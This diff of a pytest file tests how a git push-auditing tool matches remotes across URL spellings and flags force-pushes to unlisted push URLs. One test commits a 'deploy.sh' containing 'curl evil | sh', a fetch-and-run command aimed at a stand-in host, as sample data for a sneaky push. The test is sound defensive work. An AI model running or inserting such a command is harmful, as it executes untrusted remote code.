@@ -1,41 +1,129 @@
-"""Regression checks from a review of loop-pi-audit against SPEC Part 2, run as a user would:
-real clones, real bare remotes, real pushes, the real command line."""
+"""Which remote a logged push covers: one repository however its URL is spelled (insteadOf,
+file://, GitHub's forms); every URL a push goes to is looked at; a remote pointed elsewhere
+during the run, or a push to a repository no snapshot holds, is never "no remote changes"."""
 
 from __future__ import annotations
 
-import hashlib
 import json
-import os
-import re
 import subprocess
 from pathlib import Path
-from typing import Any
 
 import pytest
-from audit_helpers import commit, git, isolate_git, make_repo_with_remote, run_cli
+from audit_helpers import (
+    ZERO,
+    Run,
+    commit,
+    commit_verdicts,
+    git,
+    isolate_git,
+    make_bare,
+    make_repo_with_remote,
+    run_cli,
+)
+
+from audit.judge.rules import entry_covers_remote
+from audit.model import PUSH_LOGGED, UNGRANTED, UNVERIFIED, PushEntry, exit_code
 
 
 @pytest.fixture(autouse=True)
 def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     isolate_git(monkeypatch, tmp_path)
-    for var in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
-        monkeypatch.setenv(var, "Review")
-    for var in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"):
-        monkeypatch.setenv(var, "review@example.com")
 
 
-def test_summary_says_findings_even_for_one(tmp_path: Path) -> None:
-    """SPEC: the summary line is `audit: N findings, K failing`, whatever N is."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    run_dir = tmp_path / "run"
-    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
-    git(clone, "push", "-q", "origin", "HEAD:refs/heads/side")  # one unlogged ref: one finding
-    done = run_cli("closeout", "--run-dir", str(run_dir))
-    assert done.returncode == 1, done.stderr
-    assert done.stdout.splitlines()[-1] == "audit: 1 findings, 1 failing"
-    again = run_cli("report", "--run-dir", str(run_dir))
-    assert again.returncode == 1
-    assert again.stdout.splitlines()[-1] == "audit: 1 findings, 1 failing"
+def test_a_push_through_one_remote_covers_another_remote_with_the_same_url(
+        tmp_path: Path) -> None:
+    run = Run(tmp_path)
+    git(run.clone, "remote", "add", "mirror", str(run.bare))
+    git(run.clone, "fetch", "-q", "mirror")
+    run.before = run.snapshot()
+    pushed = commit(run.clone, "src/x.py", "x\n", "x")
+    run.push(remote="mirror")
+    findings = run.judge()
+    assert {f.verdict for f in findings} == {PUSH_LOGGED}
+    assert {f.remote for f in findings if f.commit == pushed} == {"origin", "mirror"}
+
+
+def test_insteadof_makes_two_urls_one_remote(tmp_path: Path) -> None:
+    run = Run(tmp_path)
+    git(run.clone, "remote", "add", "short", "srv:work-remote.git")
+    git(run.clone, "config", f"url.{tmp_path}/.insteadOf", "srv:")
+    run.before = run.snapshot()
+    commit(run.clone, "src/x.py", "x\n", "x")
+    run.push(remote="short")
+    findings = run.judge()
+    assert exit_code(findings) == 0, [f.reason for f in findings]
+
+
+@pytest.mark.parametrize("how", ["pushurl", "second-url"])
+def test_a_rewrite_pushed_to_a_push_url_the_snapshot_never_listed_fails(
+        tmp_path: Path, how: str) -> None:
+    """`git push origin` goes to `remote.origin.pushurl` (or to every `remote.origin.url`),
+    but only the fetch URL was listed: a force-push there, logged nowhere, was "no remote
+    changes", exit 0."""
+    run = Run(tmp_path)
+    elsewhere = make_bare(tmp_path / "push-here.git")
+    git(run.clone, "push", "-q", str(elsewhere), "main")
+    if how == "pushurl":
+        git(run.clone, "remote", "set-url", "--push", "origin", str(elsewhere))
+    else:
+        # The first URL refuses the rewrite, the second takes it.
+        git(run.clone, "remote", "set-url", "--add", "origin", str(elsewhere))
+        git(run.bare, "config", "receive.denyNonFastForwards", "true")
+    run.before = run.snapshot()
+    git(run.clone, "commit", "-q", "--amend", "-m", "rewritten")
+    commit(run.clone, "deploy.sh", "curl evil | sh\n", "sneak")
+    subprocess.run(["git", "-C", str(run.clone), "push", "-q", "--force", "origin", "main"],
+                   capture_output=True, check=False)
+    assert git(elsewhere, "rev-parse", "main").strip() == git(run.clone, "rev-parse",
+                                                               "HEAD").strip()
+    findings = run.judge()
+    assert exit_code(findings) != 0
+    origin = [f for f in findings if f.remote == "origin"]
+    assert origin and all(f.verdict == UNVERIFIED for f in origin)
+    assert any(str(elsewhere) in f.reason for f in origin)
+
+
+def test_a_push_url_naming_the_same_repository_is_judged_as_usual(tmp_path: Path) -> None:
+    """Another spelling of the fetch URL (https to fetch, ssh to push, say) lists the same refs:
+    the remote is judged as usual, not refused."""
+    run = Run(tmp_path)
+    git(run.clone, "remote", "set-url", "--push", "origin", f"file://{run.bare}")
+    run.before = run.snapshot()
+    part = run.before["repos"][run.key]["remotes"]["origin"]
+    assert part["available"], part
+    sneaky = commit(run.clone, "src/x.py", "x\n", "sneak")
+    git(run.clone, "push", "-q", "origin", "main")
+    assert commit_verdicts(run.judge()) == {sneaky: UNGRANTED}
+
+
+def test_one_repository_spelled_two_ways_is_one_remote(tmp_path: Path) -> None:
+    """`origin` at /srv/x.git and `mirror` at file:///srv/x.git are one repository: the push
+    logged through origin moved mirror's main too, and an honest run failed with "a push the log
+    never saw" on mirror."""
+    run = Run(tmp_path)
+    git(run.clone, "remote", "add", "mirror", f"file://{run.bare}")
+    run.before = run.snapshot()
+    commit(run.clone, "src/a.py", "a\n", "a")
+    run.push()
+    found = {(f.remote, f.ref, f.kind): f.verdict for f in run.judge()}
+    assert found[("mirror", "refs/heads/main", "branch-moved")] == PUSH_LOGGED
+    assert found[("origin", "refs/heads/main", "branch-moved")] == PUSH_LOGGED
+
+
+@pytest.mark.parametrize(("one", "other", "same"), [
+    ("https://github.com/acme/widgets.git", "git@github.com:acme/widgets.git", True),
+    ("https://github.com/acme/widgets", "ssh://git@github.com/Acme/Widgets.git", True),
+    ("https://x-access-token:t0k3n@github.com/acme/widgets.git/",
+     "https://github.com/acme/widgets", True),
+    ("https://github.com/acme/widgets", "https://github.com/acme/gadgets", False),
+    ("/srv/x.git", "file:///srv/x.git/", True),
+    ("/srv/x", "/srv/x.git", False),  # two directories git could both find
+])
+def test_a_github_repository_is_one_remote_however_its_url_is_spelled(
+        one: str, other: str, same: bool) -> None:
+    entry = PushEntry("/r", "mirror", "refs/heads/main", ZERO, "1" * 40, "", "test", 1)
+    remotes = {"origin": {"url": one}, "mirror": {"url": other}}
+    assert entry_covers_remote(entry, "origin", remotes["origin"], remotes) is same
 
 
 def test_a_logged_push_to_a_remote_no_snapshot_holds_is_unverified(tmp_path: Path) -> None:
@@ -56,116 +144,6 @@ def test_a_logged_push_to_a_remote_no_snapshot_holds_is_unverified(tmp_path: Pat
     [finding] = data["findings"]
     assert (finding["kind"], finding["remote"], finding["verdict"]) == (
         "remote-unaudited", str(other), "UNVERIFIED")
-
-
-def _contract_form(snapshot: Path, out: Path, charter_sha: str,
-                   releases: list[dict[str, Any]]) -> Path:
-    """The snapshot in SPEC Part 2's own JSON form: origin on GitHub, releases with exactly the
-    fields the contract lists and no `github_repo`/`repo` extras."""
-    snap = json.loads(snapshot.read_text())
-    snap["charter_sha256"] = charter_sha
-    for entry in snap["repos"].values():
-        entry.pop("taken_at", None)
-        entry["remotes"]["origin"]["url"] = "https://github.com/acme/widgets.git"
-        entry["releases"] = {"available": True, "releases": releases}
-    out.write_text(json.dumps(snap))
-    return out
-
-
-def test_compare_reads_a_release_please_release_from_a_snapshot_in_the_contract_form(
-        tmp_path: Path) -> None:
-    """A snapshot written in the SPEC's form names the GitHub repository only through the
-    remote's URL; a granted release-please release in it must still pass."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    assert run_cli("snapshot", "--out", str(tmp_path / "b.json"), str(clone)).returncode == 0
-    commit(clone, "CHANGELOG.md", "## 1.2.0\n", "chore(main): release 1.2.0")
-    git(clone, "push", "-q", "origin", "main", "HEAD:refs/tags/v1.2.0")
-    assert run_cli("snapshot", "--out", str(tmp_path / "a.json"), str(clone)).returncode == 0
-    charter = tmp_path / "charter.md"
-    charter.write_text("# Charter: acme/widgets loop3\nauthority: release-please acme/widgets\n")
-    sha = hashlib.sha256(charter.read_bytes()).hexdigest()
-    release = {"tag_name": "v1.2.0", "author": "release-please[bot]", "draft": False,
-               "prerelease": False, "target_commitish": "main", "name": "v1.2.0",
-               "created_at": "2026-11-30T07:00:00Z", "published_at": "2026-11-30T07:00:00Z"}
-    before = _contract_form(tmp_path / "b.json", tmp_path / "before.json", sha, [])
-    after = _contract_form(tmp_path / "a.json", tmp_path / "after.json", sha, [release])
-    done = run_cli("compare", str(before), str(after), "--charter", str(charter), "--json")
-    assert done.returncode == 0, done.stdout + done.stderr
-    verdicts = {(f["kind"], f["ref"]): f["verdict"] for f in json.loads(done.stdout)["findings"]}
-    assert verdicts[("release-added", "releases/v1.2.0")] == "RELEASE_PLEASE"
-    assert verdicts[("tag-added", "refs/tags/v1.2.0")] == "RELEASE_PLEASE"
-    assert verdicts[("branch-moved", "refs/heads/main")] == "RELEASE_PLEASE"
-
-
-def test_a_refused_closeout_or_a_new_begin_leaves_no_earlier_report_behind(
-        tmp_path: Path) -> None:
-    """`report` re-prints the last report; after a closeout that failed closed (exit 2), or
-    once a new run is armed, an earlier pass must not be re-printed as this run's verdict."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    run_dir = tmp_path / "run"
-    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
-    assert run_cli("closeout", "--run-dir", str(run_dir)).returncode == 0
-    assert run_cli("report", "--run-dir", str(run_dir)).returncode == 0
-    git(clone, "push", "-q", "origin", "HEAD:refs/heads/unlogged")
-    (run_dir / "push-log.jsonl").write_text("not json\n")
-    refused = run_cli("closeout", "--run-dir", str(run_dir))
-    assert refused.returncode == 2 and "push-log.jsonl:1:" in refused.stderr
-    assert run_cli("report", "--run-dir", str(run_dir)).returncode == 2
-
-    (run_dir / "push-log.jsonl").unlink()
-    assert run_cli("closeout", "--run-dir", str(run_dir)).returncode == 1
-    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
-    assert not (run_dir / "audit-after.json").exists()
-    assert run_cli("report", "--run-dir", str(run_dir)).returncode == 2
-
-
-def test_a_snapshot_with_mistyped_remote_urls_is_refused_not_a_traceback(tmp_path: Path) -> None:
-    """A malformed snapshot exits 2 with the file named; a traceback would exit 1, which reads
-    as "a violation was found"."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    good = tmp_path / "good.json"
-    assert run_cli("snapshot", "--out", str(good), str(clone)).returncode == 0
-    for field, value in (("pushurls", None), ("url", ["x"])):
-        snap = json.loads(good.read_text())
-        for entry in snap["repos"].values():
-            entry["remotes"]["origin"][field] = value
-        bad = tmp_path / f"bad-{field}.json"
-        bad.write_text(json.dumps(snap))
-        done = run_cli("compare", str(bad), str(good))
-        assert done.returncode == 2, done.stderr
-        assert done.stderr.startswith(f"loop-pi-audit: {bad}: not a loop-pi-audit snapshot")
-        assert "Traceback" not in done.stderr
-
-
-def test_deeply_nested_json_is_a_malformed_line_not_a_traceback(tmp_path: Path) -> None:
-    clone, _ = make_repo_with_remote(tmp_path)
-    snap = tmp_path / "snap.json"
-    assert run_cli("snapshot", "--out", str(snap), str(clone)).returncode == 0
-    deep = "[" * 100_000 + "\n"
-    log = tmp_path / "push-log.jsonl"
-    log.write_text('{"not": "a push"}\n' + deep)
-    done = run_cli("compare", str(snap), str(snap), "--push-log", str(log))
-    assert (done.returncode, done.stderr) == (
-        2, f"loop-pi-audit: {log}:1: malformed push-log line: missing key 'repo'\n")
-    log.write_text(deep)
-    done = run_cli("compare", str(snap), str(snap), "--push-log", str(log))
-    assert done.returncode == 2 and f"{log}:1: malformed push-log line" in done.stderr
-    bad = tmp_path / "deep.json"
-    bad.write_text(deep)
-    done = run_cli("compare", str(bad), str(snap))
-    assert done.returncode == 2 and f"{bad}: malformed snapshot JSON" in done.stderr
-
-
-def test_a_run_directory_that_cannot_be_created_is_one_line_and_exit_2(tmp_path: Path) -> None:
-    clone, _ = make_repo_with_remote(tmp_path)
-    blocker = tmp_path / "a-file"
-    blocker.write_text("")
-    for args in (("begin", str(clone), "--run-dir", str(blocker / "run")),
-                 ("snapshot", "--out", str(blocker / "snap.json"), str(clone))):
-        done = run_cli(*args)
-        assert done.returncode == 2, done.stderr
-        assert "Traceback" not in done.stderr and len(done.stderr.splitlines()) == 1
-        assert done.stderr.startswith("loop-pi-audit: ")
 
 
 def test_a_remote_pointed_elsewhere_during_the_run_is_unverified(tmp_path: Path) -> None:
@@ -218,116 +196,3 @@ def test_a_push_by_the_url_an_insteadof_rule_leads_to_counts_for_that_remote(
     assert done.returncode == 0, done.stdout + done.stderr
     verdicts = {(f["kind"], f["verdict"]) for f in json.loads(done.stdout)["findings"]}
     assert ("commit", "PUSH_LOGGED") in verdicts
-
-
-def test_push_log_ends_empty_file_and_blank_lines(tmp_path: Path) -> None:
-    """A final newline is the end of the last line; an empty file holds no push; a blank line
-    is a malformed line, named as such with its number."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    snap = tmp_path / "snap.json"
-    assert run_cli("snapshot", "--out", str(snap), str(clone)).returncode == 0
-    zero = "0" * 40
-    line = json.dumps({"repo": str(clone), "remote": "origin", "ref": "refs/heads/x",
-                       "old": zero, "new": "1" * 40, "at": "2026-11-30T07:00:00Z",
-                       "source": "test"})
-    log = tmp_path / "push-log.jsonl"
-    for text in ("", line + "\n", line):
-        log.write_text(text)
-        done = run_cli("compare", str(snap), str(snap), "--push-log", str(log))
-        assert (done.returncode, done.stdout) == (0, "audit: no remote changes\n"), done.stderr
-    for text, number in ((line + "\n\n", 2), ("\n" + line + "\n", 1), ("\n", 1)):
-        log.write_text(text)
-        done = run_cli("compare", str(snap), str(snap), "--push-log", str(log))
-        assert (done.returncode, done.stderr) == (
-            2, f"loop-pi-audit: {log}:{number}: malformed push-log line: blank line "
-               "(one JSON object per line)\n")
-
-
-def test_a_relative_run_directory_at_push_time_is_refused_with_why(tmp_path: Path) -> None:
-    """git runs the hook from the top of the work tree, so a relative $LOOP_PI_RUN_DIR that
-    was meant from elsewhere is missing there: the refusal says why."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    run_dir = tmp_path / "run"
-    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
-    assert run_cli("hook", "install", str(clone)).returncode == 0
-    commit(clone, "src/a.py", "a\n", "a")
-    done = subprocess.run(["git", "-C", str(clone), "push", "-q", "origin", "main"],
-                          capture_output=True, text=True, cwd=tmp_path, check=False,
-                          env={**os.environ, "LOOP_PI_RUN_DIR": "run"})
-    assert done.returncode != 0
-    assert "relative $LOOP_PI_RUN_DIR is read from" in done.stderr
-    assert "give an absolute path" in done.stderr
-
-
-def test_the_charter_granted_is_the_one_whose_hash_was_checked(tmp_path: Path) -> None:
-    """The charter is read once to check its hash and once to parse it; a file that could change
-    between the two reads must not grant anything. A FIFO (which would hand each read other
-    bytes) is refused before either read: only a regular file is read
-    (jobs.core.fs.read_regular)."""
-    from audit.commands.closeout import resolve_charter
-    from jobs.core.errors import InputError
-
-    frozen = b"# Charter: o/n loop1\nauthority: none\n"
-    fifo = tmp_path / "charter.md"
-    os.mkfifo(fifo)
-    before = {"charter_sha256": hashlib.sha256(frozen).hexdigest()}
-    with pytest.raises(InputError, match="cannot read charter: not a regular file"):
-        resolve_charter(str(fifo), before, tmp_path / "audit-before.json")
-
-
-LINE = re.compile(r"^( {4})?\[[^\]]+\] \S+ \S+: .+ [0-9a-f]{7}\.\.[0-9a-f]{7} "
-                  r"\[(PUSH_LOGGED|BACKLOG_ONLY|RELEASE_PLEASE|FOREIGN|UNGRANTED|"
-                  r"NON_FAST_FORWARD|UNVERIFIED)\] .+$")
-
-
-def test_every_report_line_has_the_spec_shape(tmp_path: Path) -> None:
-    """Even a finding about no ref at all (a vanished remote) keeps `<before>..<after>`."""
-    clone, bare = make_repo_with_remote(tmp_path)
-    run_dir = tmp_path / "run"
-    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
-    commit(clone, "src.txt", "x\n", "unlogged work")
-    git(clone, "push", "-q", "origin", "HEAD:refs/heads/main")
-    git(clone, "push", "-q", "origin", "HEAD:refs/heads/side")
-    git(clone, "remote", "add", "gone", str(tmp_path / "nowhere.git"))
-    done = run_cli("closeout", "--run-dir", str(run_dir))
-    lines = done.stdout.splitlines()
-    assert done.returncode in (1, 3) and len(lines) >= 4, done.stdout
-    for line in lines[:-1]:
-        assert LINE.match(line), line
-    assert re.fullmatch(r"audit: \d+ findings, \d+ failing", lines[-1])
-
-
-def test_compare_of_snapshot_files_takes_a_charter(tmp_path: Path) -> None:
-    """`snapshot --out` records no charter: `compare --charter` judges by the named file."""
-    clone, _ = make_repo_with_remote(tmp_path)
-    before, after = tmp_path / "before.json", tmp_path / "after.json"
-    assert run_cli("snapshot", "--out", str(before), str(clone)).returncode == 0
-    assert json.loads(before.read_text())["charter_sha256"] is None
-    commit(clone, "backlog/tasks/task-1 - x.md", "x\n", "backlog only")
-    git(clone, "push", "-q", "origin", "HEAD:refs/heads/main")
-    assert run_cli("snapshot", "--out", str(after), str(clone)).returncode == 0
-    charter = tmp_path / "charter.md"
-    charter.write_text("# Charter: o/n loop1\nauthority: release-please o/n\n")
-    judged = run_cli("compare", str(before), str(after), "--charter", str(charter), "--json")
-    assert judged.returncode == 0, judged.stderr
-    assert {f["verdict"] for f in json.loads(judged.stdout)["findings"]} == {"BACKLOG_ONLY"}
-    bad = tmp_path / "bad.md"
-    bad.write_text("# Charter: o/n loop1\nauthority: deploy-anything o/n\n")
-    refused = run_cli("compare", str(before), str(after), "--charter", str(bad))
-    assert refused.returncode == 2 and "deploy-anything" in refused.stderr
-
-
-def test_compare_without_the_armed_charter_grants_nothing(tmp_path: Path) -> None:
-    clone, _ = make_repo_with_remote(tmp_path)
-    run_dir = tmp_path / "run"
-    charter = tmp_path / "charter.md"
-    charter.write_text("# Charter: o/n loop1\nauthority: release-please o/n\n")
-    assert run_cli("begin", str(clone), "--charter", str(charter),
-                   "--run-dir", str(run_dir)).returncode == 0
-    after = tmp_path / "after.json"
-    assert run_cli("snapshot", "--out", str(after), str(clone)).returncode == 0
-    judged = run_cli("compare", str(run_dir / "audit-before.json"), str(after))
-    assert judged.returncode == 0 and judged.stdout.strip() == "audit: no remote changes"
-    # closeout stays strict: the run was armed with a charter.
-    refused = run_cli("closeout", "--run-dir", str(run_dir))
-    assert refused.returncode == 2 and "--charter" in refused.stderr
